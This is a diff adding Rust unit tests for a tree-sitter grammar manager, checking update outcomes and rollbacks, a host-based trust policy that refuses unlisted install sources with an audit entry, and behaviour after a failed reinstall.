+        create_dir_all(grammars_folder.join("tree-sitter-faked/src")).unwrap();
+
+        // Only the queries are changed, the fake parser cannot be compiled so this is rolled back
+        create_dir_all(origins[1].join("queries")).unwrap();
+        std::fs::write(origins[1].join("queries/highlights.scm"), "(a) @b").unwrap();
+        commit_all(&origins[1], "v2");
+        // The generated parser has changed, this needs an approval
+        std::fs::write(origins[2].join("src/parser.c"), "// v2").unwrap();
+        commit_all(&origins[2], "v2");
+
+        let reports = m.update_all();
+        let outcomes: Vec<(&str, &UpdateOutcome)> = reports
+            .iter()
+            .map(|r| (r.lang.as_str(), &r.outcome))
+            .collect();
+        assert_eq!(outcomes[0], ("fakea", &UpdateOutcome::UpToDate));
+        assert!(matches!(
+            outcomes[1],
+            ("fakeb", UpdateOutcome::RolledBack { .. })
+        ));
+        assert!(matches!(
+            outcomes[2],
+            ("fakec", UpdateOutcome::Refused { .. })
+        ));
+        assert!(matches!(
+            outcomes[3],
+            ("faked", UpdateOutcome::Failed { .. })
+        ));
+        assert_eq!(reports[0].previous_revision, reports[0].revision);
+        for report in &reports[1..3] {
+            assert_ne!(report.previous_revision, report.revision);
+            let repos = m.get_repos_for_lang(&report.lang).unwrap();
+            assert_eq!(
+                Some(repos.get_last_commit_hash().unwrap()),
+                report.previous_revision
+            );
+        }
+    }
+
+    #[test]
+    fn test_install_from_source_refused_by_trust_policy() {
+        let grammars_folder = get_unique_local_tree_sitter_grammars_folder();
+        let mut m =
+            TreeSitterGrammarsManager::new_with_grammars_folder(grammars_folder.clone()).unwrap();
+        assert!(m
+            .install("https://gitlab.com/someone/tree-sitter-css.git")
+            .is_err());
+        assert!(!grammars_folder.join("tree-sitter-css").exists());
+        assert_eq!(
+            m.get_audit_log().unwrap()[0].action,
+            AuditAction::InstallRefused
+        );
+
+        // The policy is saved and loaded again by a new manager
+        let policy = GrammarTrustPolicy {
+            allowed_hosts: vec!["gitlab.com".to_string()],
+            ..Default::default()
+        };
+        m.set_trust_policy(policy.clone()).unwrap();
+        let m = TreeSitterGrammarsManager::new_with_grammars_folder(grammars_folder).unwrap();
+        assert_eq!(*m.get_trust_policy(), policy);
+    }
+
+    #[test]
+    fn test_failed_reinstall_keeps_the_broken_grammar() {
+        let theme =
+            Theme::from_helix(DEFAULT_THEME, ALL_HIGHLIGHT_NAMES_SUPPORTED_BY_HELIX).unwrap();
+        let grammars_folder = get_unique_local_tree_sitter_grammars_folder();
+        let folder = grammars_folder.join("tree-sitter-css");
+        create_dir_all(folder.join("src")).unwrap();
+        GitRepos::run_git_cmd(&vec!["init", "--quiet"], &folder).unwrap();
+        // Refused by the default trust policy, so the reinstallation fails
+        let remote = "https://gitlab.com/someone/tree-sitter-css.git";
+        GitRepos::run_git_cmd(&vec!["remote", "add", "origin", remote], &folder).unwrap();
+
+        let mut m =
+            TreeSitterGrammarsManager::new_with_grammars_folder(grammars_folder.clone()).unwrap();
+        let health = m.doctor(&theme).grammars.remove(0);
+        assert!(m.repair(&health).is_err());
+        assert!(folder.join(".git").exists());
+        assert!(!grammars_folder.join("tree-sitter-css.previous").exists());
+    }
+
     #[test]
     fn test_check_local_deps() {
         let result = TreeSitterGrammarsManager::check_local_deps();